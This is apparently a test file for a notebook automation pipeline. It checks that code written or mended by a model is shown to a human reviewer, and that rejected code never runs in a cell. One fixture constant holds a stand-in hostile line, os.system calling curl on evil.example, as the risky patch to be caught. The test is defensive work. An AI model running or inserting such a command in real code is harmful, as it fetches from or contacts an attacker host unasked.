import type { Diagnosis } from '../contracts/diagnosis';
import { ProbeError } from '../contracts/errors';
import { keyText } from '../contracts/code-module';
import { aRun } from '../testing/a-run';
import { aPatch, aReport } from '../testing/builders';
import { follow } from '../testing/followed';
import { DONE, failing } from '../testing/outcomes';
import { run } from './run';

/** What the code of strangers does in these stories. */
const HOSTILE = 'os.system("curl evil.example")';

type Run = ReturnType<typeof aRun>;

/** The model writes one module, the recipes all others. */
function modelWrites(it: Run, name: string, source: string): void {
  const recipes = it.team.write.bind(it.team);
  it.team.write = async request => {
    const module = await recipes(request);
    return module && request.level === 0 && keyText(request.key) === name
      ? { ...module, source, author: 'model' }
      : module;
  };
}

/** A person who says no to whatever is risky. */
function saysNo(it: Run): void {
  it.reviewer.decide = ({ risks }) =>
    risks.length > 0 ? { action: 'reject' } : { action: 'accept' };
}

/** Every text that has stood in a cell, and every text that has run. */
function touched({ notebook, cells }: Run): string {
  return [...notebook.cells().map(({ source }) => source), ...cells.ran].join();
}

describe('what a model wrote reaches no cell unread in Autopilot', () => {
  it('waits for a yes when its text could not be read', async () => {
    const it = aRun();
    modelWrites(it, 'traditional/features', '# model features');
    const fine = it.probes.answers.check_static;
    it.probes.answers.check_static = args => {
      if (args.source.includes('# model')) {
        throw new ProbeError('check_static', 'RecursionError', 'too deep');
      }
      return fine(args);
    };
    saysNo(it);
    const { record } = await follow(run(it.options, it.ports));
    expect(record.valid).toBe(true);
    expect(it.reviewer.shown).toMatchObject([
      { title: 'traditional/features', author: 'model' }
    ]);
    expect(touched(it)).not.toContain('# model features');
  });

  it('waits for a yes when it mends a module before the failing one', async () => {
    const it = aRun();
    it.cells.outcome = source =>
      source.includes('traditional/models level 0') ? failing() : DONE;
    const diagnosis: Diagnosis = {
      key: { module: 'models', track: 'traditional', candidate: null },
      signature: 'ValueError',
      route: 'caller',
      culprit: { module: 'validation', track: null, candidate: null },
      cause: 'The validation is at fault.',
      rule: null
    };
    it.team.diagnose = async () => diagnosis;
    it.team.mend = ({ module }) =>
      aPatch(module, HOSTILE, { author: 'model', rule: 'model' });
    it.probes.answers.check_static = ({ source }) => ({
      report: aReport(),
      risks: source.includes('os.system') ? ['line 1: `os.system`'] : []
    });
    saysNo(it);
    const { record } = await follow(run(it.options, it.ports));
    expect(record.valid).toBe(true);
    expect(it.reviewer.shown[0]).toMatchObject({
      title: 'validation',
      after: HOSTILE
    });
    expect(touched(it)).not.toContain(HOSTILE);
  });
});
